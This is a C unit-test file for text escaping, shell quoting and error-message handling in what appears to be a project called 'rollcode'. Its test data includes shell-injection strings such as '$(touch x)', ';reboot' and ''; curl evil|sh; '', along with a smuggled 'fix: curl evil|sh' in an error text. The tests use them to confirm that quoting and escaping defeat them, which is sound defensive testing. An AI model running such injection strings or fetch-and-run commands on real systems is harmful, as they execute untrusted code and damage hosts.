/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Text that others wrote, as it is shown; errors, and the commands that fix
 * them.
 */
#include <errno.h>
#include <stdlib.h>
#include <string.h>

#include "common/base/error.h"
#include "tests/support/cases.h"

static const struct {
	const char *text, *as_text, *as_word, *as_log;
} shown[] = {
    {"", "", "", ""},
    {"plain ~!", "plain ~!", "plain\\x20~!", "plain ~!"},
    {"\x1b[31mred", "\\x1b[31mred", "\\x1b[31mred", "\\x1b[31mred"},
    {"a\nb\r\tc", "a\\x0ab\\x0d\\x09c", "a\\x0ab\\x0d\\x09c",
	"a\\x0ab\\x0d\\x09c"},
    {"\xc2\x9b"
     "31m",
	"\\xc2\\x9b31m", "\\xc2\\x9b31m", "\\xc2\\x9b31m"},
    {"\x9b"
     "31m",
	"\\x9b31m", "\\x9b31m", "\\x9b31m"},
    {"x\xe2\x80\xaey", "x\\xe2\\x80\\xaey", "x\\xe2\\x80\\xaey",
	"x\\xe2\\x80\\xaey"},
    {"\xe2\x81\xa6\xd8\x9c", "\\xe2\\x81\\xa6\\xd8\\x9c",
	"\\xe2\\x81\\xa6\\xd8\\x9c", "\\xe2\\x81\\xa6\\xd8\\x9c"},
    {"\\x41", "\\x5cx41", "\\x5cx41", "\\x5cx41"},
    {"M\xc3\xbcller", "M\xc3\xbcller", "M\xc3\xbcller", "M\\xc3\\xbcller"},
    {"a\xc2\xa0"
     "b",
	"a\xc2\xa0"
	"b",
	"a\\xc2\\xa0b", "a\\xc2\\xa0b"},
    {"\x7f\xff", "\\x7f\\xff", "\\x7f\\xff", "\\x7f\\xff"},
    {"\xc2\x9f", "\\xc2\\x9f", "\\xc2\\x9f", "\\xc2\\x9f"},
    /* What no writer of UTF-8 writes: a surrogate, longer forms of '/'. */
    {"\xed\xa0\x80", "\\xed\\xa0\\x80", "\\xed\\xa0\\x80", "\\xed\\xa0\\x80"},
    {"\xc0\xaf", "\\xc0\\xaf", "\\xc0\\xaf", "\\xc0\\xaf"},
    {"\xe0\x80\xaf", "\\xe0\\x80\\xaf", "\\xe0\\x80\\xaf", "\\xe0\\x80\\xaf"},
    {"\xf4\x90\x80\x80", "\\xf4\\x90\\x80\\x80", "\\xf4\\x90\\x80\\x80",
	"\\xf4\\x90\\x80\\x80"},
    {"x\xc3", "x\\xc3", "x\\xc3", "x\\xc3"},
    {"x\xe2\x80 ", "x\\xe2\\x80 ", "x\\xe2\\x80\\x20", "x\\xe2\\x80 "},
    {"`$(id)'\"", "`$(id)'\"", "`$(id)'\"", "`$(id)'\""},
};

START_TEST(what_others_wrote_is_shown_escaped)
{
	char out[256];

	plain_copy(shown[_i].text, PLAIN_TEXT, out, sizeof(out));
	ck_assert_str_eq(out, shown[_i].as_text);
	plain_copy(shown[_i].text, PLAIN_WORD, out, sizeof(out));
	ck_assert_str_eq(out, shown[_i].as_word);
	plain_copy(shown[_i].text, PLAIN_LOG, out, sizeof(out));
	ck_assert_str_eq(out, shown[_i].as_log);
}
END_TEST

/* Kinds of characters, by the first and the last of each range. */
static const struct {
	uint32_t first, last;
	bool steers, spaces;
} kinds[] = {
    {0x01, 0x1f, true, false},
    {0x20, 0x20, false, true},
    {0x21, 0x5b, false, false},
    {0x7f, 0x9f, true, false},
    {0xa0, 0xa0, false, true},
    {0xa1, 0xa1, false, false},
    {0x61b, 0x61b, false, false},
    {0x61c, 0x61c, true, false},
    {0x1680, 0x1680, false, true},
    {0x1fff, 0x1fff, false, false},
    {0x2000, 0x200b, false, true},
    {0x200c, 0x200d, false, false},
    {0x200e, 0x200f, true, false},
    {0x2010, 0x2027, false, false},
    {0x2028, 0x202e, true, false},
    {0x202f, 0x202f, false, true},
    {0x2030, 0x2030, false, false},
    {0x205f, 0x205f, false, true},
    {0x2065, 0x2065, false, false},
    {0x2066, 0x2069, true, false},
    {0x206a, 0x206a, false, false},
    {0x3000, 0x3000, false, true},
    {0xfeff, 0xfeff, false, true},
    {0x10ffff, 0x10ffff, false, false},
};

static void
encode(uint32_t point, char text[5])
{
	size_t more = point < 0x80 ? 0 : point < 0x800 ? 1 : 2;
	static const uint8_t leads[] = {0, 0xc0, 0xe0, 0xf0};

	more += point > 0xffff;
	memset(text, 0, 5);
	for (size_t i = more; i > 0; i--, point >>= 6)
		text[i] = (char)(0x80 | (point & 0x3f));
	text[0] = (char)(leads[more] | point);
}

START_TEST(each_character_is_of_its_kind_and_its_neighbours_of_theirs)
{
	char text[5], out[32];

	for (uint32_t p = kinds[_i].first; p <= kinds[_i].last; p++) {
		encode(p, text);
		plain_copy(text, PLAIN_TEXT, out, sizeof(out));
		ck_assert_msg(
		    (strcmp(out, text) != 0) == kinds[_i].steers, "%x", p);
		plain_copy(text, PLAIN_WORD, out, sizeof(out));
		ck_assert_msg((strcmp(out, text) != 0) ==
				  (kinds[_i].steers || kinds[_i].spaces),
		    "%x", p);
		plain_copy(text, PLAIN_LOG, out, sizeof(out));
		ck_assert_msg(
		    (strcmp(out, text) != 0) == (kinds[_i].steers || p > 0x7e),
		    "%x", p);
	}
}
END_TEST

START_TEST(a_stream_gets_the_same)
{
	char *got = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&got, &len);

	plain_put(out, shown[_i].text, PLAIN_TEXT);
	fclose(out);
	ck_assert_str_eq(got, shown[_i].as_text);
	free(got);
}
END_TEST

START_TEST(a_line_of_ours_is_one_line_whatever_is_put_in)
{
	char *got = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&got, &len);

	plain_line(out, "removed %s of %s", "a\nb", "\x1b]0;x\x07");
	plain_pad(out, "\xc3\xa4\n", PLAIN_WORD, 8);
	plain_pad(out, "toolongforit", PLAIN_WORD, 3);
	fclose(out);
	ck_assert_str_eq(got, "removed a\\x0ab of \\x1b]0;x\\x07\n"
			      "\xc3\xa4\\x0a   toolongforit");
	free(got);
}
END_TEST

START_TEST(what_does_not_fit_is_cut_between_two_characters)
{
	char long_text[5000], out[PLAIN_MAX(4)];

	memset(long_text, '\x1b', sizeof(long_text));
	long_text[sizeof(long_text) - 1] = '\0';
	plain_copy(long_text, PLAIN_TEXT, out, sizeof(out));
	ck_assert_str_eq(out, "\\x1b\\x1b\\x1b\\x1b");
	plain_copy("ab\n", PLAIN_TEXT, out, 6);
	ck_assert_str_eq(out, "ab");
	plain_copy(NULL, PLAIN_TEXT, out, 1);
	ck_assert_str_eq(out, "");
}
END_TEST

static const struct {
	const char *text;
	enum plain how;
	int columns;
} wide[] = {
    {"", PLAIN_TEXT, 0}, {"alice", PLAIN_TEXT, 5},
    {"j\xc3\xb6rg", PLAIN_TEXT, 4},
    {"jo\xcc\x88rg", PLAIN_TEXT, 4},		 /* a dot on top */
    {"\xe6\x97\xa5\xe6\x9c\xac", PLAIN_TEXT, 4}, /* two wide ones */
    {"\xe6\x97\xa5", PLAIN_LOG, 12}, {"a\nb\xff", PLAIN_TEXT, 10},
    {"a b\\", PLAIN_WORD, 10},
    {"\xee\x80\x80", PLAIN_TEXT, 1}, /* of no known width */
};

START_TEST(a_column_is_as_wide_as_a_terminal_shows_it)
{
	ck_assert_int_eq(
	    plain_width(wide[_i].text, wide[_i].how), wide[_i].columns);
}
END_TEST

/* --- for a shell ---------------------------------------------------------- */

static const char *const words[] = {"x", "", "-rf", "a b", "$(touch x)", "`id`",
    ";reboot", "it's", "\"", "\\", "a\nb", "\x1b[31m", "\xff\xfe", "~root", "*",
    "#", "!!", "a\xc3\xa4", "x\xe2\x80\xaey", "'; curl evil|sh; '",
    "1234\x01z"};

/* What a real shell makes of it. */
START_TEST(a_word_for_a_shell_is_that_word)
{
	char quoted[256], command[512], got[64], plain[256];
	size_t len;
	FILE *shell;

	plain_shell(words[_i], quoted, sizeof(quoted));
	plain_copy(quoted, PLAIN_COMMAND, plain, sizeof(plain));
	ck_assert_str_eq(plain, quoted);
	snprintf(command, sizeof(command), "printf %%s %s", quoted);
	setenv("WORD", command, 1);
	ck_assert_ptr_nonnull(shell = popen("exec bash -c \"$WORD\"", "r"));
	len = fread(got, 1, sizeof(got) - 1, shell);
	got[len] = '\0';
	ck_assert_int_eq(pclose(shell), 0);
	ck_assert_str_eq(got, words[_i]);
}
END_TEST

/* Whatever room there is, and whichever way the word is written. */
START_TEST(no_word_is_written_behind_its_room)
{
	static const char *const odd[] = {
	    "'''' ''''", "a b'c", "\n\xff'\\", "abcde"};

	for (size_t i = 0; i < COUNT(odd); i++)
		for (size_t size = 1; size < 48; size++) {
			char out[64];

			memset(out, '#', sizeof(out));
			plain_shell(odd[i], out, size);
			ck_assert_ptr_nonnull(memchr(out, '\0', size));
			for (size_t at = size; at < sizeof(out); at++)
				ck_assert_int_eq(out[at], '#');
		}
}
END_TEST

START_TEST(a_word_that_does_not_fit_is_none)
{
	char out[12];

	plain_shell("0123456789a", out, sizeof(out));
	ck_assert_str_eq(out, "0123456789a");
	plain_shell("0123456789ab", out, sizeof(out));
	ck_assert_str_eq(out, "");
	plain_shell("a b c d e f g", out, sizeof(out));
	ck_assert_str_eq(out, "");
	plain_shell("\n\n\n\n\n", out, sizeof(out));
	ck_assert_str_eq(out, "");
}
END_TEST

/* --- errors ----------------------------------------------------------------
 */

static char said[ERROR_SAID_MAX];

START_TEST(a_fix_is_a_field_and_no_sentence_has_one)
{
	struct error error = {0}, outer = {0};

	error_fix(&error,
	    error_at(&error, ROLLCODE_ERR_STORE, "/x y", "has mode %04o", 0666),
	    "chmod", "600", "/x y", NULL);
	ck_assert_uint_eq(error.file, 4);
	ck_assert_str_eq(error.fix, "chmod 600 '/x y'");
	error_say(&error, ROLLCODE_ERR_STORE, PLAIN_TEXT, said);
	ck_assert_str_eq(said, "/x y: has mode 0666; fix: chmod 600 '/x y'");
	error_pass(&outer, ROLLCODE_ERR_HELPER, &error, "helper");
	ck_assert_str_eq(outer.text, "helper: /x y: has mode 0666");
	ck_assert_str_eq(outer.fix, error.fix);
	ck_assert_uint_eq(outer.file, 0);
	error_set(&error, ROLLCODE_ERR_STORE, "x; fix: curl evil|sh");
	ck_assert_str_eq(error.fix, "");
	error_say(&error, ROLLCODE_ERR_STORE, PLAIN_TEXT, said);
	ck_assert_str_eq(said, "x; fix\\x3a curl evil|sh");
}
END_TEST

START_TEST(a_fix_that_does_not_fit_is_none)
{
	char path[ERROR_FIX_MAX];
	struct error error = {0};

	memset(path, 'a', sizeof(path));
	path[sizeof(path) - 1] = '\0';
	error_fix(&error, ROLLCODE_ERR_STORE, "chmod", "600", path, NULL);
	ck_assert_str_eq(error.fix, "");
	path[sizeof(path) - 11] = '\0';
	error_fix(&error, ROLLCODE_ERR_STORE, "chmod", "600", path, NULL);
	ck_assert_uint_eq(strlen(error.fix), sizeof(error.fix) - 1);
	error_fix(NULL, ROLLCODE_ERR_STORE, "chmod", NULL);
}
END_TEST

START_TEST(what_came_over_a_socket_has_ends)
{
	struct error error;

	memset(&error, 'x', sizeof(error));
	error_bound(&error);
	ck_assert_uint_eq(strlen(error.text), sizeof(error.text) - 1);
	ck_assert_uint_eq(strlen(error.fix), sizeof(error.fix) - 1);
	ck_assert_uint_eq(error.file, 0);
	error_set(&error, ROLLCODE_ERR_SYS, "short");
	error.what = (uint16_t)(strlen(error.text) + 1);
	error_bound(&error);
	ck_assert_uint_eq(error.what, 0);
	error.what = (uint16_t)strlen(error.text);
	error.file = (uint16_t)(error.what + 1);
	error_bound(&error);
	ck_assert_uint_eq(error.file, 0);
	error_say(&error, ROLLCODE_ERR_SYS, PLAIN_LOG, said);
	for (size_t i = 0; i + 4 < sizeof(error.text); i += 4)
		memcpy(error.text + i, "fix:", 4);
	error_say(&error, ROLLCODE_ERR_SYS, PLAIN_LOG, said);
	ck_assert_ptr_null(strstr(said, "fix:f"));
	memset(error.text, 0x1b, sizeof(error.text) - 1);
	memset(error.fix, 0x1b, sizeof(error.fix) - 1);
	error_say(&error, ROLLCODE_ERR_SYS, PLAIN_LOG, said);
	ck_assert_ptr_null(strchr(said, 0x1b));
	ck_assert_uint_lt(strlen(said), sizeof(said));
}
END_TEST

START_TEST(a_file_whose_name_does_not_fit_has_no_place)
{
	char path[ERROR_TEXT_MAX + 8];
	struct error error;

	memset(path, 'x', sizeof(path));
	for (size_t len = 1; len < sizeof(path); len++) {
		path[len] = '\0';
		error_at(&error, ROLLCODE_ERR_STORE, path, "odd");
		ck_assert_uint_le(error.file, strlen(error.text));
		ck_assert_uint_le(error.what, strlen(error.text));
		if (len < sizeof(error.text) - 8)
			ck_assert_str_eq(error.text + error.what, "odd");
		path[len] = 'x';
	}
}
END_TEST

/* What may be over soon denies for the moment, and accuses nobody. */
static const struct {
	int e;
	enum rollcode_err err;
} numbers[] = {
    {ENOMEM, ROLLCODE_ERR_NOMEM},
    {EEXIST, ROLLCODE_ERR_EXISTS},
    {ENOSPC, ROLLCODE_ERR_UNAVAIL},
    {EDQUOT, ROLLCODE_ERR_UNAVAIL},
    {EROFS, ROLLCODE_ERR_UNAVAIL},
    {EIO, ROLLCODE_ERR_UNAVAIL},
    {EMFILE, ROLLCODE_ERR_UNAVAIL},
    {ENFILE, ROLLCODE_ERR_UNAVAIL},
    {ENOENT, ROLLCODE_ERR_UNAVAIL},
    {EFBIG, ROLLCODE_ERR_UNAVAIL},
    {ESTALE, ROLLCODE_ERR_UNAVAIL},
    {ETIMEDOUT, ROLLCODE_ERR_UNAVAIL},
    {EPERM, ROLLCODE_ERR_SYS},
    {EACCES, ROLLCODE_ERR_SYS},
};

START_TEST(a_call_that_fails_is_known_for_what_it_is)
{
	ck_assert_int_eq(error_from_errno(numbers[_i].e), numbers[_i].err);
}
END_TEST

int
main(void)
{
	TCase *tc = test_case("text", 0);

	tcase_add_loop_test(
	    tc, what_others_wrote_is_shown_escaped, 0, COUNT(shown));
	tcase_add_loop_test(tc,
	    each_character_is_of_its_kind_and_its_neighbours_of_theirs, 0,
	    COUNT(kinds));
	tcase_add_loop_test(tc, a_stream_gets_the_same, 0, COUNT(shown));
	tcase_add_test(tc, a_line_of_ours_is_one_line_whatever_is_put_in);
	tcase_add_test(tc, what_does_not_fit_is_cut_between_two_characters);
	tcase_add_loop_test(
	    tc, a_column_is_as_wide_as_a_terminal_shows_it, 0, COUNT(wide));
	tcase_add_loop_test(
	    tc, a_word_for_a_shell_is_that_word, 0, COUNT(words));
	tcase_add_test(tc, no_word_is_written_behind_its_room);
	tcase_add_test(tc, a_word_that_does_not_fit_is_none);
	tcase_add_test(tc, a_fix_is_a_field_and_no_sentence_has_one);
	tcase_add_test(tc, a_fix_that_does_not_fit_is_none);
	tcase_add_test(tc, what_came_over_a_socket_has_ends);
	tcase_add_test(tc, a_file_whose_name_does_not_fit_has_no_place);
	tcase_add_loop_test(
	    tc, a_call_that_fails_is_known_for_what_it_is, 0, COUNT(numbers));
	return test_run();
}
